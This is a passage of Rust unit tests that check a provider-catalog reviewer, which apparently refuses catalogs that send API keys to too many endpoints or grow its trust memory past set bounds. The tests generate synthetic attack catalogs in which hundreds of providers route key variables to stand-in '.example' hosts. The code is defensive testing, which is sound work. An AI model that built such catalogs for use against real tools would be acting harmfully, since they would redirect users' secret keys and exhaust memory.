        std::sync::Arc::make_mut(&mut next.providers[0]).api_endpoint =
            Some("https://$HOST/".into());
        let known = Places::new();
        let baseline = Baseline {
            previous: None,
            places: &known,
            floor: Floor::None,
            signed: None,
        };
        let e = review(&baseline, &next, None).unwrap_err().to_string();
        assert!(
            e.starts_with("provider \"x\": field api_endpoint: it holds \"$HOST\""),
            "{e}"
        );
    }

    /// The real catalog teaches far less than one catalog may: the bounds
    /// stay ten times above it as it grows.
    #[test]
    fn the_real_catalog_teaches_a_tenth_of_the_bounds_at_most() {
        let places = places(crate::catalog::embedded::outline()).unwrap();
        let variables = places.keys().filter(|h| !is_configured(h)).count();
        let taught: usize = places.values().map(BTreeSet::len).sum();
        assert!(variables * 10 <= MAX_VARIABLES, "{variables}");
        assert!(taught * 10 <= MAX_PLACES, "{taught}");
    }

    /// The attack of issue 35: 700 providers, each at its own endpoint,
    /// naming the same 1,000 variables (a 4 MB catalog that would teach
    /// 700,000 places, an 80 MB memory no reader accepts). Its review is
    /// refused, at once, saying the limit; one just within the bounds
    /// is reviewed.
    #[test]
    fn a_catalog_teaching_more_than_the_bounds_is_refused() {
        let catalog = |count: usize, variables: usize| {
            let key: String = (0..variables).map(|i| format!("$V{i}")).collect();
            let providers: Vec<String> = (0..count)
                .map(|i| format!(r#"{{"id":"p{i}","name":"P","api_key":"{key}","api_endpoint":"https://p{i}.example/v1"}}"#))
                .collect();
            format!("[{}]", providers.join(","))
        };
        let known = Places::new();
        let baseline = Baseline {
            previous: None,
            places: &known,
            floor: Floor::None,
            signed: None,
        };
        let attack = catalog(700, 1000);
        let attack = validate(attack.as_bytes()).unwrap();
        let e = review(&baseline, &attack, None).unwrap_err().to_string();
        assert!(e.contains("sends keys to more than 10000 places"), "{e}");
        assert!(places(&attack).is_err());
        let named = catalog(1, MAX_VARIABLES + 1);
        let named = validate(named.as_bytes()).unwrap();
        let e = review(&baseline, &named, None).unwrap_err().to_string();
        assert!(e.contains("names more than 1000 variables"), "{e}");
        // 99 providers of 100 variables and their configured keys: 9,999.
        let within = catalog(99, 100);
        let within = validate(within.as_bytes()).unwrap();
        assert!(review(&baseline, &within, None).unwrap().is_clear());
    }

    /// Attack F7 of issue 35: catalogs each within the bounds of one grew
    /// the memory without end. Past [`MAX_PLACES_IN_ALL`] in all, a
    /// catalog that would teach anything new is refused, saying the bound
    /// and the way out; one that reaches it exactly, or teaches nothing
    /// new however large the memory, is reviewed as before. The real
    /// catalog stays far below it.
    #[test]
    fn the_memory_is_bounded_in_all() {
        // Two catalogs of 99 providers naming 100 variables each, their
        // own: 9,999 places each, 19,998 in all.
        let teaching = |letter: char| {
            let key: String = (0..100).map(|i| format!("${letter}{i}")).collect();
            let providers: Vec<String> = (0..99)
                .map(|i| format!(r#"{{"id":"{letter}{i}","name":"P","api_key":"{key}","api_endpoint":"https://{letter}{i}.example/v1"}}"#))
                .collect();
            format!("[{}]", providers.join(","))
        };
        // One provider at a new host: each variable of `key`, and its
        // configured key, a new place there.
        let reaching = |key: &str| {
            format!(
                r#"[{{"id":"n","name":"N","api_key":"{key}","api_endpoint":"https://n.example"}}]"#
            )
        };
        let places_of = |text: &str| places(&validate(text.as_bytes()).unwrap()).unwrap();
        let reviewed = |known: &Places, text: &str| {
            let baseline = Baseline {
                previous: None,
                places: known,
                floor: Floor::None,
                signed: None,
            };
            review(&baseline, &validate(text.as_bytes()).unwrap(), None)
        };
        let mut known = places_of(&teaching('a'));
        known.extend(places_of(&teaching('b')));
        assert_eq!(known.values().map(BTreeSet::len).sum::<usize>(), 19_998);
        // 2 new places: 20,000 in all.
        assert!(reviewed(&known, &reaching("$N1")).unwrap().is_clear());
        let e = reviewed(&known, &reaching("$N1$N2"))
            .unwrap_err()
            .to_string();
        assert_eq!(
            e,
            "the catalog sends keys to 3 places never seen, which would take the memory of where keys went past the 20000 places it may hold in all (it holds 19998; the real catalog teaches 80): nothing of it is applied; check where it comes from, since every catalog that sends keys to new places adds to the memory; to start the memory over, remove providers.trust.json from the data folder (`crush provider-dirs` shows it), which forgets every place a person approved (--allow-key-move), the floor and the newest signing time"
        );
        // Past the bound (a memory an older version wrote), what teaches
        // nothing new is reviewed as before, and what does is refused.
        known.extend(places_of(&reaching("$N1$N2$N3")));
        assert!(reviewed(&known, &reaching("$N3$N1")).unwrap().is_clear());
        assert!(reviewed(&known, &teaching('a')).unwrap().is_clear());
        assert!(reviewed(&known, &reaching("$N4")).is_err());
        // The real catalog teaches a tiny share of it.
        let real = places(crate::catalog::embedded::outline()).unwrap();
        let taught: usize = real.values().map(BTreeSet::len).sum();
        assert!(taught * 100 <= MAX_PLACES_IN_ALL, "{taught}");
    }
}
